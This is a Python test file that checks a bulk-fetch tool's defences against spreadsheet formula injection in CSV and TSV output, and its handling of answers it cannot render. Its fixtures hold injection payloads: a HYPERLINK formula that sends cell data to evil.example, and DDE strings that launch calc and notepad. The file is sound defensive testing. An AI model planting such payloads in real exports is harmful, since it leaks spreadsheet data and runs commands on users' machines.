"""Output written from a real SQLite store whose answers are hostile: what came from the API
cannot run as a spreadsheet formula (unless raw values are asked for), the input's cells are
written as read, and a kept answer the plugin cannot render fails its row, not the output."""

from __future__ import annotations

import csv
import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from bulkfetch import CrystalRoof
from bulkfetch.adapter import Answers
from bulkfetch.io.sinks import OutputFormat
from bulkfetch.jobs import Lookup, Outcome, OutcomeKind
from bulkfetch.run.output import Part, write_output
from bulkfetch.store import RowEntry, RunSpec, Store
from tests.conftest import KEY

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "-2+3+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+cmd|' /C notepad'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "split": "Hammersmith;=1+2",
    "negative": -12.5,
    "negative_text": "-12.5",
    "phone": "+44",
    "plain": "Hammersmith and Fulham",
}
BAD_ERROR = '=HYPERLINK("http://evil.example","not found")'
HEADER = ["=note", "postcode"]
ROWS = [["=1+2", "W6 0WW"], ["@me", "N1 9GU"], ["-x", "SW1A 1AA"]]


def _lookup(location: str) -> Lookup:
    return Lookup.of("crystalroof", "http://origin", "a/b", {"location": location})


async def _run(store: Store, bodies: Sequence[str | None]) -> int:
    """A run over ``ROWS``: row i answered with ``bodies[i]`` (None: not found, with
    ``BAD_ERROR``), its columns those of a CrystalRoof answer's data."""
    spec = RunSpec("k", "crystalroof", "a/b", "test run", header=json.dumps(HEADER))
    run = await store.runs.begin(spec, now=1.0)
    entries = [RowEntry(i, _lookup(row[1]), fields=row) for i, row in enumerate(ROWS)]
    await store.queue.enqueue(run.id, entries, now=1.0)
    await store.runs.finish_enqueue(run.id)
    claim = await store.queue.claim(run.id, owner="t", limit=9, now=2.0, lease_seconds=60)
    by_location = {dict(job.lookup.params)["location"]: job.id for job in claim.jobs}
    outcomes = []
    for row, body in zip(ROWS, bodies, strict=True):
        job = by_location[row[1]]
        if body is None:
            outcomes.append(Outcome(job, OutcomeKind.NOT_FOUND, status=404, error=BAD_ERROR))
        else:
            columns = tuple(json.loads(body)["data"])
            outcomes.append(Outcome(job, OutcomeKind.DONE, 200, body, columns, settles=1))
    await store.queue.apply(run.id, outcomes, now=3.0, max_attempts=3, owner="t")
    return run.id


def _body(data: Mapping[str, Any]) -> str:
    return json.dumps({"data": data, "dataDate": "=2021-03-21"})


def _read(path: Path) -> list[dict[str, Any]]:
    """The output's rows, as its format reads back."""
    if path.suffix == ".parquet":
        return list(pq.read_table(path).to_pylist())
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in _text(path).splitlines()]
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle, delimiter="\t" if path.suffix == ".tsv" else ","))


def _text(path: Path) -> str:
    return path.read_bytes().decode("utf-8", "replace")


@pytest.mark.parametrize("output", ["csv", "tsv"])
async def test_formulas_from_the_api_are_neutralised(tmp_path: Path, output: OutputFormat) -> None:
    """Values, column names, fixed columns and errors from the API that begin like a
    formula get a leading quote; numbers, plain text and the input's cells do not."""
    out = tmp_path / f"out.{output}"
    async with await Store.open(tmp_path / "s.db") as store, CrystalRoof(KEY) as api:
        run_id = await _run(store, [_body(HOSTILE), _body({"=evil": "=1+2"}), None])
        statuses = await write_output(store, [Part("", run_id, api)], out, output)
    assert statuses == {"ok": 2, "not_found": 1}
    first, second, third = _read(out)
    assert [first[c] for c in HEADER] == ROWS[0]
    assert [second[c] for c in HEADER] == ROWS[1]
    assert [third[c] for c in HEADER] == ROWS[2]
    for name in ("link", "dde", "sum", "plus", "tab", "cr"):
        assert first[name] == "'" + str(HOSTILE[name])
    for name in ("split", "negative", "negative_text", "phone", "plain"):
        assert first[name] == str(HOSTILE[name])
    assert first["data_date"] == "'=2021-03-21"
    assert second["'=evil"] == "'=1+2"
    assert "=evil" not in second
    assert third["error"] == "'" + BAD_ERROR


async def test_a_formula_behind_a_separator_is_quoted_whole(tmp_path: Path) -> None:
    """``x;=1+2`` would be split at ``;`` by a reader that separates with it: its line is
    written with every cell quoted, so no cell begins there."""
    out = tmp_path / "out.csv"
    async with await Store.open(tmp_path / "s.db") as store, CrystalRoof(KEY) as api:
        run_id = await _run(store, [_body({"v": "x;=1+2"}), _body({"v": "y"}), None])
        await write_output(store, [Part("", run_id, api)], out, "csv")
    lines = _text(out).splitlines()
    assert lines[1] == '"=1+2","W6 0WW","W6 0WW","ok","","x;=1+2","\'=2021-03-21"'
    assert lines[2] == "@me,N1 9GU,N1 9GU,ok,,y,'=2021-03-21"


async def test_raw_values_are_written_as_the_api_gave_them(tmp_path: Path) -> None:
    """``raw_values=True``: every cell as the API gave it, formulas and all."""
    out = tmp_path / "out.csv"
    async with await Store.open(tmp_path / "s.db") as store, CrystalRoof(KEY) as api:
        run_id = await _run(store, [_body(HOSTILE), _body({"=evil": "=1+2"}), None])
        await write_output(store, [Part("", run_id, api)], out, "csv", raw_values=True)
    first, second, third = _read(out)
    assert [first[c] for c in HEADER] == ROWS[0]
    assert {name: first[name] for name in HOSTILE} == {k: str(v) for k, v in HOSTILE.items()}
    assert second["=evil"] == "=1+2"
    assert third["error"] == BAD_ERROR


async def test_json_lines_are_never_changed(tmp_path: Path) -> None:
    """JSON Lines is no spreadsheet's format: the API's answer as it gave it."""
    out = tmp_path / "out.jsonl"
    async with await Store.open(tmp_path / "s.db") as store, CrystalRoof(KEY) as api:
        run_id = await _run(store, [_body(HOSTILE), _body({"=evil": "=1+2"}), None])
        await write_output(store, [Part("", run_id, api)], out, "jsonl")
    first, second, third = _read(out)
    assert first["input"] == dict(zip(HEADER, ROWS[0], strict=True))
    assert first["data"] == HOSTILE
    assert second["data"] == {"=evil": "=1+2"}
    assert third["error"] == BAD_ERROR


# -- kept answers a plugin cannot render ------------------------------------------------------

SECRET = "text-of-the-body"


class _Strict:
    """Answers that read ``{"data": {...}}`` and raise, quoting the body, on any other."""

    fixed_columns: tuple[str, ...] = ()
    expands_rows = False

    def output_rows(self, body: str) -> Sequence[Mapping[str, Any]]:
        return [self._data(body)]

    def output_document(self, body: str) -> Mapping[str, Any]:
        return {"data": self._data(body)}

    def _data(self, body: str) -> dict[str, Any]:
        parsed = json.loads(body)
        if "value" not in parsed["data"]:
            raise KeyError(f"no value in {body}")
        return dict(parsed["data"])


def _wrong(value: str) -> str:
    return json.dumps({"data": {"other": SECRET, "v": value}})


UNWRITABLE = "the kept answer cannot be written (KeyError): --refresh fetches it again"


@pytest.mark.parametrize("output", ["csv", "jsonl", "parquet"])
async def test_a_kept_answer_that_cannot_be_rendered_fails_its_row(
    tmp_path: Path, output: OutputFormat
) -> None:
    """A body of the wrong shape for its plugin: that row failed, saying why without the
    exception's text; the other rows written as ever."""
    out = tmp_path / f"out.{output}"
    good = json.dumps({"data": {"value": "fine"}})
    answers: Answers = _Strict()
    async with await Store.open(tmp_path / "s.db") as store:
        run_id = await _run(store, [good, _wrong("x"), None])
        statuses = await write_output(store, [Part("", run_id, answers)], out, output)
    assert statuses == {"ok": 1, "failed": 1, "not_found": 1}
    rows = _read(out)
    assert [row["status"] for row in rows] == ["ok", "failed", "not_found"]
    assert rows[1]["error"] == UNWRITABLE
    assert SECRET not in _text(out)


async def test_a_merged_row_a_part_cannot_render_fails(tmp_path: Path) -> None:
    """Several runs side by side: a row one part's answer cannot be written for is failed."""
    out = tmp_path / "out.csv"
    good = json.dumps({"data": {"value": "fine"}})
    async with await Store.open(tmp_path / "s.db") as store:
        run_id = await _run(store, [good, _wrong("x"), good])
        parts = [Part("a", run_id, _Strict()), Part("b", run_id, _Strict())]
        statuses = await write_output(store, parts, out, "csv")
    assert statuses == {"ok": 2, "failed": 1}
    rows = _read(out)
    assert [row["status"] for row in rows] == ["ok", "failed", "ok"]
    assert rows[1]["error"] == UNWRITABLE
    assert rows[0]["a.value"] == rows[2]["b.value"] == "fine"
